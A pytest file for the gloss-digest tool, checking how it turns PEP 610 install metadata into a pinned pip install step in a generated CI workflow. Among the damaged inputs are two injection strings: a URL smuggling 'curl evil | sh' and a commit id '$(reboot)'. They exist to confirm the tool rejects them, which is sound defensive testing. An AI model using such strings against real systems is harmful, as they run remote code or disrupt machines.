"""The install step of the workflow ``init`` writes follows where this gloss came from
(PEP 610's direct_url.json). Found by a new user: the workflow pinned ``gloss==0.1.0``,
and ``gloss`` on PyPI is another project's (1.2.2, 1.3.0): the first deploy failed, and
without the pin it would have installed someone else's package."""

from __future__ import annotations

import json
from importlib import metadata
from pathlib import Path

import pytest
from conftest import ROOT

from gloss import __version__
from gloss.commands.init import workflow
from gloss.commands.origin import DISTRIBUTION, Install, direct_url, install_for, this_install
from gloss.text.yamlsafe import load

COMMIT = "a" * 40


def test_the_distribution_is_not_the_name_another_project_holds_on_pypi() -> None:
    assert DISTRIBUTION == "gloss-digest"


def test_from_an_index_it_is_pinned_to_this_version() -> None:
    found = install_for(None, "0.1.0")
    assert found.requirement == "gloss-digest==0.1.0"
    assert found.note == "" and "from PyPI" in found.comment


@pytest.mark.parametrize(
    ("data", "requirement"),
    [
        (
            {"url": "https://github.com/me/gloss.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
            f"gloss-digest @ git+https://github.com/me/gloss.git@{COMMIT}",
        ),
        (
            {
                "url": "https://github.com/me/gloss",
                "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "v1"},
            },
            f"gloss-digest @ git+https://github.com/me/gloss@{COMMIT}",
        ),
        (
            {"url": "https://hg.example.org/gloss", "vcs_info": {"vcs": "hg", "commit_id": "b" * 40}},
            f"gloss-digest @ hg+https://hg.example.org/gloss@{'b' * 40}",
        ),
        (
            {
                "url": "https://github.com/me/tools",
                "subdirectory": "py/gloss",
                "vcs_info": {"vcs": "git", "commit_id": COMMIT},
            },
            f"gloss-digest @ git+https://github.com/me/tools@{COMMIT}#subdirectory=py/gloss",
        ),
    ],
)
def test_from_a_repository_it_is_installed_from_that_commit(data: dict[str, object], requirement: str) -> None:
    found = install_for(json.dumps(data), "0.1.0")
    assert found.requirement == requirement
    assert found.note == "" and "commit" in found.comment


def test_from_a_wheel_on_the_web_it_is_installed_from_that_url() -> None:
    data = {"url": "https://example.org/gloss_digest-0.1.0-py3-none-any.whl", "archive_info": {}}
    assert install_for(json.dumps(data), "0.1.0").requirement == f"gloss-digest @ {data['url']}"


@pytest.mark.parametrize(
    ("data", "where"),
    [
        ({"url": "file:///home/me/gloss", "dir_info": {"editable": True}}, "/home/me/gloss"),
        ({"url": "file:///home/me/gloss", "dir_info": {}}, "/home/me/gloss"),
        ({"url": "file:///home/me/my%20gloss", "dir_info": {}}, "/home/me/my gloss"),
        ({"url": "file:///home/me/my gloss", "dir_info": {}}, "/home/me/my gloss"),  # not quoted, as it should be
        ({"url": "file://localhost/home/me/caf%C3%A9", "dir_info": {}}, "/home/me/café"),
        ({"url": "file://[broken/gloss", "dir_info": {}}, "[broken/gloss"),  # urllib cannot split it
        ({"url": "file:///tmp/gloss_digest-0.1.0-py3-none-any.whl", "archive_info": {}}, "/tmp/gloss_digest-0.1.0"),
        ({"url": "file:///tmp/gloss_digest-0.1.0.tar.gz", "archive_info": {}}, "/tmp/gloss_digest-0.1.0.tar.gz"),
        ({"url": "file:///home/me/gloss", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}, "/home/me/gloss"),
    ],
)
def test_from_a_local_source_ci_cannot_reach_the_editor_is_told(data: dict[str, object], where: str) -> None:
    found = install_for(json.dumps(data), "0.1.0")
    assert found.requirement == "gloss-digest==0.1.0"
    assert "installs gloss-digest 0.1.0 from PyPI" in found.note
    assert f"this gloss was installed from {where}" in found.note
    assert 'edit the "Install gloss" step' in found.note
    assert 'pip install "gloss-digest @ git+https://github.com/OWNER/REPO@TAG"' in found.note
    assert len(found.note.splitlines()) <= 2
    assert "local folder or file" in found.comment and where not in found.comment  # no editor's path in the repository


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "[]",
        '"x"',
        '{"url": 3}',
        '{"vcs_info": {}}',
        "[" * 100_000,  # deeper than the parser goes
        '{"url": "https://github.com/me/gloss", "vcs_info": {"vcs": "git", "commit_id": null}}',
        '{"url": "https://github.com/me/gloss", "vcs_info": {"vcs": "git", "commit_id": ["a"]}}',
        '{"url": "https://github.com/me/gloss", "vcs_info": {"vcs": "cvs", "commit_id": "abc"}}',
        '{"url": "https://github.com/me/gloss", "vcs_info": "git"}',
        '{"url": "https://github.com/me/gloss\\"; curl evil | sh; \\"", "vcs_info": {"vcs": "git", "commit_id": "a"}}',
        '{"url": "https://github.com/me/gloss", "vcs_info": {"vcs": "git", "commit_id": "$(reboot)"}}',
        '{"url": "http://example.org/gloss.whl", "archive_info": {}}',
        '{"url": "https://[broken/gloss", "vcs_info": {"vcs": "git", "commit_id": "a"}}',
    ],
)
def test_a_damaged_or_unknown_direct_url_is_read_as_an_index_install(text: str) -> None:
    assert install_for(text, "0.2.0") == install_for(None, "0.2.0")


def test_a_direct_url_that_cannot_be_read_is_none(tmp_path: Path) -> None:
    info = tmp_path / "gloss_digest-0.1.0.dist-info"
    info.mkdir()
    dist = metadata.PathDistribution(info)
    assert direct_url(dist) is None  # no such file: installed from an index
    (info / "direct_url.json").write_bytes(b'{"url": "file:///home/\xff"}')  # not UTF-8
    assert direct_url(dist) is None
    (info / "direct_url.json").write_text('{"url": "file:///home/me/gloss"}', encoding="utf-8")
    assert direct_url(dist) == '{"url": "file:///home/me/gloss"}'


def test_run_from_this_checkout_the_checkout_is_the_source() -> None:
    """The tests run gloss from this checkout, whichever checkout the environment's
    editable install names: the note names this one."""
    found = this_install()
    assert found.requirement == f"gloss-digest=={__version__}"
    assert f"installed from {ROOT}, which CI cannot reach" in found.note


@pytest.mark.parametrize(
    "direct",
    [
        None,
        json.dumps({"url": "https://github.com/me/gloss", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}),
        json.dumps({"url": "file:///home/me/gloss", "dir_info": {"editable": True}}),
    ],
)
def test_the_workflow_installs_what_it_is_given(direct: str | None) -> None:
    install = install_for(direct, "0.3.0")
    text = workflow(install)
    flow = load(text).data
    (step,) = [step for step in flow["jobs"]["build"]["steps"] if step.get("name") == "Install gloss"]
    assert step["run"] == f'python -m pip install "{install.requirement}"'
    assert f"        # {install.comment}\n        run: python -m pip install" in text
    assert '"gloss==' not in text and "gloss==" not in text.replace("gloss-digest==", "")


def test_an_install_is_a_plain_value() -> None:
    assert Install("gloss-digest==1", "c") == Install("gloss-digest==1", "c", "")
